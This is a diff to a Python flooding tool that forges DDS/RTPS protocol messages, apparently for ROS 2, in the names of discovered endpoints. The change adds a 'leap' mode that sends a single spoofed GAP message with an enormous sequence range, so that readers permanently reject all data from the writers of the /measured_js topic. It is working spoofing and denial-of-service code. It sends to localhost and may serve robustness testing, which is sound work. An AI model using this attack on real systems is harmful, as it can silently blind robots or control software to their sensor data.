@@ -3,7 +3,8 @@
 It joins, learns from discovery who writes and reads what, and then sends HEARTBEAT, GAP, DATA_FRAG and ACKNACK in the
 names of those endpoints with numbers that are lies, and random bytes. Nothing but the standard library sends.
 
-Usage: flood.py WHAT SECONDS SEED PORT..., where WHAT is random, heartbeat, gap, data_frag, acknack or all
+Usage: flood.py WHAT SECONDS SEED PORT..., where WHAT is random, heartbeat, gap, data_frag, acknack or all; or leap, which is
+a single GAP to each port that makes a reader refuse everything that the writers of /measured_js will ever send
 """
 
 import os
@@ -108,8 +109,18 @@ def main():
         discovered(participant, BuiltinTopicDcpsPublication),
         discovered(participant, BuiltinTopicDcpsSubscription),
     )
-    kinds = ["random", "heartbeat", "gap", "data_frag", "acknack"] if what == "all" else [what]
     out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    if what == "leap":
+        lies = [
+            header(guid[:12]) + submessage(0x08, b"\0\0\0\0" + guid[12:] + number(1) + number(1 << 62) + struct.pack("<I", 0))
+            for guid, topic in liar.writers.items() if topic == "rt/measured_js"
+        ]
+        for port in ports:
+            for lie in lies:
+                out.sendto(lie, ("127.0.0.1", port))
+        print(len(lies) * len(ports))
+        return
+    kinds = ["random", "heartbeat", "gap", "data_frag", "acknack"] if what == "all" else [what]
     end, sent = time.monotonic() + seconds, 0
     while time.monotonic() < end:
         for _ in range(100):
